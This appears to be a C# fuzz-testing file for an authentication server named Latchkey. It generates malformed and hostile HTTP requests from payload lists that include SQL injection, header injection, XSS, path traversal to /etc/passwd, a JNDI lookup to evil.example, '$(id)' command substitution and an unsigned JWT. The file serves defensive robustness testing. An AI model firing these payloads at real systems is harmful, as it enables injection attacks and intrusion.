using System.Globalization;
using System.Text;
using CsCheck;

namespace Latchkey.Server.Tests.Fuzzing;

/// <summary>One generated request: what is sent, and the route it was aimed at (which decides the expected error shape).</summary>
public sealed record FuzzRequest(
    FuzzRoute Route, string Method, string Path, string? Authorization, string? ContentType, byte[]? Body, (string Name, string Value)[] Headers)
{
    public override string ToString()
    {
        var body = Body is null ? "(none)" : $"{Body.Length} bytes: {Printable(Encoding.UTF8.GetString(Body.AsSpan(0, Math.Min(Body.Length, 400))))}";
        var headers = string.Join("; ", Headers.Select(h => $"{h.Name}: {Printable(h.Value)}"));
        return $"{Method} {Printable(Path)} [route {Route}]\n  Authorization: {Printable(Authorization ?? "(none)")}\n  Content-Type: {Printable(ContentType ?? "(none)")}\n  Headers: {headers}\n  Body: {body}";
    }

    private static string Printable(string text)
    {
        var shown = text.Length > 300 ? text[..300] + $"…({text.Length} chars)" : text;
        var builder = new StringBuilder();
        foreach (var c in shown)
        {
            builder.Append(char.IsControl(c) || char.IsSurrogate(c) ? $"\\u{(int)c:x4}" : c.ToString());
        }

        return builder.ToString();
    }
}

/// <summary>The credentials and ids of the fuzzed server, mixed into requests so that some get past authentication.</summary>
public sealed record KnownValues(string ApiKey, string VisitorToken, string MemberToken, string RefreshToken, string ClientId, string MemberId, string SiteId)
{
    public string[] Secrets => [ApiKey, VisitorToken, MemberToken, RefreshToken, ClientId, MemberId, SiteId];
}

/// <summary>
/// CsCheck generators of malformed and hostile requests: broken and deeply nested JSON, wrong types, huge strings and
/// bodies, invalid UTF-8, control characters, Unicode lookalike and mixed-normalisation emails, SQL and header
/// injection, absurd token lengths. <paramref name="maxHuge"/> bounds the long strings (the body limit is 64 KiB).
/// </summary>
public sealed class HostileInput(KnownValues known, int maxHuge = 80_000, int maxDepth = 5_000)
{
    public const string ScriptMarker = "<script>alert(1)</script>";

    private static readonly string[] Nasty =
    [
        "", " ", "\t", "null", "undefined", "true", "0", "-1", "NaN", "[]", "{}",
        "' OR '1'='1", "'; DROP TABLE members; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)--", "admin'--", "%' AND 1=0 UNION SELECT sqlite_version()--",
        "a\r\nSet-Cookie: injected=1", "a\r\nLocation: https://evil.example", "\r\n\r\nHTTP/1.1 200 OK", "a\nb", "a\0b", "\0",
        ScriptMarker, "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "https://evil.example/callback", "//evil.example",
        "http://localhost:3000/callback/../../evil", "http://localhost:3000@evil.example/", "../../../../etc/passwd", "%2e%2e%2f", "%00", "%ZZ",
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(id)", "`id`", "\u202Eevil", "\u200B", "\uFEFF", "\uFFFF", "\uD800", "\uDC00x", "💥🔐", "Z̷̢̛a̵l̶g̷o̸",
        "ÅÄÖ", "ß", "İ", "ﬁ", "Ω", "ｆｕｌｌｗｉｄｔｈ", "S256", "plain", "code", "token", "id_token", "refresh_token", "authorization_code",
        "anonymous", "client_credentials", "authorized_client", "password", "web_message", "fragment", "query", "none", "login", "consent",
        "offline_access", "openid email profile", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "correct horse battery", "Password1!", "a", "aaaaaaaa", "9999999999999999999999", "-9223372036854775809", "1e309",
    ];

    private static readonly string[] Locals =
    [
        "ann", "ANN", "Ann", "\u0430nn", "a\u0301nn", "\u00e1nn", "ann+tag", "\"ann smith\"", "ann\u200b", "ann\u202e", "ｆｕｌｌ", "ann.", ".ann", "a..nn",
        "ann'--", "' OR '1'='1", "ann\r\nBcc: x@evil.example", "ann%00", "ann\0", "", new string('a', 64), new string('a', 65), new string('b', 300),
        "jos\u00e9", "jose\u0301", "ǅ", "İstanbul", "ΑΒΓ", "用户", "fuzz-member",
    ];

    private static readonly string[] Domains =
    [
        "example.com", "EXAMPLE.COM", "ex\u0430mple.com", "example.com.", "xn--exmple-cua.com", "ex\u00e4mple.com", "exa\u0308mple.com",
        "[127.0.0.1]", "[IPv6:::1]", "localhost", "", "example", new string('d', 64) + ".com", new string('e', 250) + ".com", "example.com\u3002",
        "ｅｘａｍｐｌｅ.com", "-example.com", "exa_mple.com", "example..com", "münchen.de", "例え.jp",
    ];

    private static readonly string[] Separators = ["@", "@", "@", "＠", "@@", "", " @ ", "\uFE6B"];

    private static readonly string[] Numbers = ["0", "-0", "1", "-1", "1.5", "1e400", "-1e400", "9223372036854775808", "2147483648", "-2147483649", "0.0000000001", "1E+2"];

    private static readonly string[] OddTopLevel =
    [
        "[]", "\"x\"", "1", "null", "true", "  ", "{}", "{\"a\":1,\"a\":2}", "\uFEFF{}", "{\"__proto__\":{\"admin\":true}}", "{,}", "{\"a\"}",
        "{'a':'b'}", "{\"a\":01}", "{\"a\":NaN}", "{\"a\":undefined}", "{\"a\":\"b\"}garbage", "/* c */{}", "{\"a\":\"\\u0000\"}", "{\"a\":\"\\ud800\"}",
    ];

    private static readonly string[] ContentTypes =
    [
        "text/plain", "application/json; charset=utf-16", "application/x-www-form-urlencoded", "multipart/form-data; boundary=----x",
        "application/xml", "application/json; charset=\"utf-8\"; x=", ";;;=", "application/json" + new string(' ', 2000), "*/*", "json",
        "application/vnd.api+json", "application/json; charset=iso-8859-1",
    ];

    private static readonly string[] Methods = ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE", "PROPFIND"];

    private static readonly string[] PathMutations = ["/", "//", "/%2e%2e/", "/..", ";x=1", "%00", "?%", "?a=%ZZ", "/extra", "%20", "?" + new string('q', 5000)];

    /// <summary>A hosted form carries the authorize query it belongs to in its <c>return</c> field.</summary>
    private readonly string _authorizeQuery =
        $"?client_id={known.ClientId}&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&response_type=code&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256";

    public static Gen<string> Email =>
        Gen.Select(Gen.OneOf(Locals), Gen.OneOf(Separators), Gen.OneOf(Domains), (local, at, domain) => local + at + domain);

    /// <summary>A token-shaped string (base64url alphabet, dots) of any length up to the bound.</summary>
    public Gen<string> TokenLike => Gen.Frequency(
        (3, Gen.Char["ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.="].Array[0, 200].Select(chars => new string(chars))),
        (1, Gen.Int[1_000, maxHuge].Select(n => new string('A', n))),
        (1, Gen.OneOf(known.Secrets).Select(Gen.Int[0, 3], Gen.Int[0, 64], Mutate)));

    public Gen<string> Text => Gen.Frequency(
        (4, Gen.OneOf(Nasty)),
        (3, Email),
        (2, Gen.OneOf(known.Secrets)),
        (2, TokenLike),
        (2, Gen.String[0, 40]),
        (1, Gen.Char.Array[0, 30].Select(chars => new string(chars))),
        (1, Gen.Char['\0', '\u001f'].Array[1, 10].Select(chars => new string(chars))),
        (1, Gen.Int[1_000, maxHuge].Select(n => new string('x', n))));

    /// <summary>Any JSON value as text, strings most often, with arrays and objects nested up to <paramref name="depth"/>.</summary>
    public Gen<string> JsonValue(int depth)
    {
        var scalar = Gen.Frequency(
            (6, Text.Select(JsonString)),
            (1, Gen.OneOf(Numbers)),
            (1, Gen.OneOf("true", "false", "null")));
        if (depth <= 0)
        {
            return scalar;
        }

        return Gen.Frequency(
            (8, scalar),
            (1, JsonValue(depth - 1).Array[0, 4].Select(items => "[" + string.Join(",", items) + "]")),
            (1, Gen.Select(Text.Array[0, 3], JsonValue(depth - 1).Array[3], (keys, values) =>
                "{" + string.Join(",", keys.Select((k, i) => JsonString(k) + ":" + values[i])) + "}")));
    }

    /// <summary>An object with (some of) the route's fields, each a hostile value of any type.</summary>
    public Gen<string> ShapedObject(FuzzRoute route) =>
        Gen.Select(Gen.Int[0, 99].Array[route.Fields.Length], JsonValue(2).Array[route.Fields.Length], Gen.Int[0, 9], JsonValue(1), (keep, values, extra, extraValue) =>
        {
            var root = new Node();
            for (var i = 0; i < route.Fields.Length; i++)
            {
                if (keep[i] < 75)
                {
                    root.Set(route.Fields[i].Split('.'), values[i]);
                }
            }

            if (extra == 0)
            {
                root.Set(["unexpected"], extraValue);
            }

            return root.ToJson();
        });

    public Gen<byte[]> JsonBody(FuzzRoute route) => Gen.Frequency(
        (8, ShapedObject(route).Select(Utf8)),
        (1, Gen.Select(ShapedObject(route), Gen.Int[0, 100], (json, cut) => Utf8(json[..(json.Length * cut / 100)]))),
        (1, Gen.Select(Gen.Int[16, maxDepth], Gen.Bool, Gen.Bool, Nested)),
        (1, Gen.Select(ShapedObject(route), Gen.Int[0, 100], Gen.OneOf<byte[]>([0xFF], [0xC3, 0x28], [0xC0, 0xAF], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xE2, 0x82]), Splice)),
        (1, Gen.OneOf(OddTopLevel).Select(Utf8)),
        (1, Gen.Byte.Array[0, 512]),
        (1, Gen.Select(Gen.Int[50_000, maxHuge], Gen.OneOf(route.Fields.Length > 0 ? route.Fields : ["x"]), (n, field) =>
            Utf8("{" + JsonString(field.Split('.')[0]) + ":" + JsonString(new string('y', n)) + "}"))));

    public Gen<byte[]> FormBody(FuzzRoute route) => Gen.Frequency(
        (8, Gen.Select(Gen.Int[0, 99].Array[route.Fields.Length], Text.Array[route.Fields.Length], (keep, values) =>
            Utf8(string.Join("&", route.Fields.Where((_, i) => keep[i] < 70).Select((f, i) => f + "=" + Uri.EscapeDataString(Cap(values[i]))))))),
        (1, Gen.OneOf("%", "%zz", "a=%FF%FE", "&&&=&", "=", "a=1&a=2&a=3", "a", "\0=\0").Select(Utf8)),
        (1, Gen.Byte.Array[0, 512]),
        (1, Gen.Int[50_000, maxHuge].Select(n => Utf8("email=" + new string('z', n)))));

    public Gen<string> Query(FuzzRoute route) =>
        Gen.Select(Gen.Int[0, 99].Array[route.Fields.Length], Text.Array[route.Fields.Length], (keep, values) =>
        {
            var pairs = route.Fields.Select((f, i) => (f, v: values[i])).Where((_, i) => keep[i] < 60).Select(p => p.f + "=" + Uri.EscapeDataString(Cap(p.v)));
            var query = string.Join("&", pairs);
            return query.Length == 0 ? "" : "?" + query;
        });

    public Gen<string?> Authorization => Gen.Frequency(
        (3, Gen.Const((string?)null)),
        (2, Gen.Const<string?>(known.ApiKey)),
        (2, Gen.Const<string?>(known.VisitorToken)),
        (2, Gen.Const<string?>(known.MemberToken)),
        (1, Gen.Const<string?>("Bearer " + known.MemberToken)),
        (1, Gen.Const<string?>(known.VisitorToken + "," + known.ApiKey)),
        (3, Gen.Select(Gen.OneOf("", "Bearer ", "Basic ", "bearer ", "Bearer  ", ",", "Negotiate "), TokenLike, (scheme, token) => (string?)(scheme + token))),
        (1, Gen.Select(Gen.OneOf(known.VisitorToken, known.MemberToken), Text, (token, junk) => (string?)(token + "," + junk))),
        (1, Gen.OneOf<string?>("eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJ4Iiwicm9sZSI6Im1lbWJlciJ9.", "Bearer", ",,,", "a\r\nX-Injected: 1")));

    public Gen<(string Name, string Value)[]> Headers => Gen.Select(Gen.OneOf(
        "Cookie", "Origin", "Accept-Language", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "Referer", "User-Agent", "Content-Encoding", "Accept", "X-Wix-Request-Id"), Text, (name, value) =>
        (name, name == "Cookie" ? "lk_session=" + Cap(value) : Cap(value))).Array[0, 3];

    public Gen<FuzzRequest> Request => Gen.OneOf(PublicRoutes.All).SelectMany(route => Gen.Select(
        Gen.Frequency((9, Gen.Const(route.Method)), (1, Gen.OneOf(Methods))),
        PathFor(route),
        Authorization,
        Gen.Frequency((8, Gen.Const<string?>(route.Form ? "application/x-www-form-urlencoded" : "application/json")), (1, Gen.Const((string?)null)), (2, Gen.OneOf(ContentTypes).Select(c => (string?)c))),
        BodyFor(route),
        Headers,
        (method, path, authorization, contentType, body, headers) => new FuzzRequest(route, method, path, authorization, contentType, body, headers)));

    private Gen<string> PathFor(FuzzRoute route)
    {
        var basePath = Gen.Frequency(
            (3, Gen.Const(route.Path)),
            (1, Text.Select(id => route.Path.Replace("{id}", Uri.EscapeDataString(Cap(id)), StringComparison.Ordinal))));
        var query = route.Method == "GET" ? Query(route) : Gen.Const("");
        return Gen.Select(basePath, query, Gen.Frequency((9, Gen.Const("")), (1, Gen.OneOf(PathMutations))), (path, q, mutation) =>
        {
            var full = path.Replace("{id}", known.MemberId, StringComparison.Ordinal).Replace("{name}", "latchkey.css", StringComparison.Ordinal) + mutation;
            return q.Length > 0 && full.Contains('?', StringComparison.Ordinal) ? full + "&" + q[1..] : full + q;
        });
    }

    private Gen<byte[]?> BodyFor(FuzzRoute route)
    {
        var body = !route.Form ? JsonBody(route)
            : !route.Fields.Contains("return") ? FormBody(route)
            : Gen.Select(FormBody(route), Gen.Bool, (form, withReturn) => withReturn ? [.. Utf8("return=" + Uri.EscapeDataString(_authorizeQuery) + "&"), .. form] : form);
        return route.Method == "GET"
            ? Gen.Frequency((9, Gen.Const((byte[]?)null)), (1, body.Select(b => (byte[]?)b)))
            : Gen.Frequency((1, Gen.Const((byte[]?)null)), (12, body.Select(b => (byte[]?)b)));
    }

    private static string Mutate(string secret, int kind, int at)
    {
        if (secret.Length == 0)
        {
            return secret;
        }

        var i = at % secret.Length;
        return kind switch
        {
            0 => secret[..i] + (secret[i] == 'A' ? 'B' : 'A') + secret[(i + 1)..],
            1 => secret[..i],
            2 => secret + secret,
            _ => secret.ToUpperInvariant(),
        };
    }

    private static string Cap(string value) => value.Length > 4_000 ? value[..4_000] : value;

    private static byte[] Utf8(string text) => new UTF8Encoding(false, false).GetBytes(text);

    private static byte[] Nested(int depth, bool objects, bool closed)
    {
        var builder = new StringBuilder();
        for (var i = 0; i < depth; i++)
        {
            builder.Append(objects ? "{\"a\":" : "[");
        }

        builder.Append('1');
        if (closed)
        {
            builder.Append(objects ? '}' : ']', depth);
        }

        return Utf8(builder.ToString());
    }

    private static byte[] Splice(string json, int percent, byte[] bad)
    {
        var bytes = Utf8(json);
        var at = bytes.Length * percent / 100;
        return [.. bytes[..at], .. bad, .. bytes[at..]];
    }

    /// <summary>A JSON string literal that keeps what the input holds, lone surrogates included (as \u escapes).</summary>
    public static string JsonString(string value)
    {
        var builder = new StringBuilder("\"");
        foreach (var c in value)
        {
            switch (c)
            {
                case '"': builder.Append("\\\""); break;
                case '\\': builder.Append("\\\\"); break;
                default:
                    if (c < 0x20 || char.IsSurrogate(c))
                    {
                        builder.Append("\\u").Append(((int)c).ToString("x4", CultureInfo.InvariantCulture));
                    }
                    else
                    {
                        builder.Append(c);
                    }

                    break;
            }
        }

        return builder.Append('"').ToString();
    }

    private sealed class Node
    {
        private readonly List<(string Key, object Value)> _children = [];

        public void Set(string[] path, string value)
        {
            if (path.Length == 1)
            {
                _children.Add((path[0], value));
                return;
            }

            var child = _children.FirstOrDefault(c => c.Key == path[0]).Value as Node;
            if (child is null)
            {
                child = new Node();
                _children.Add((path[0], child));
            }

            child.Set(path[1..], value);
        }

        public string ToJson() =>
            "{" + string.Join(",", _children.Select(c => JsonString(c.Key) + ":" + (c.Value is Node n ? n.ToJson() : (string)c.Value))) + "}";
    }
}
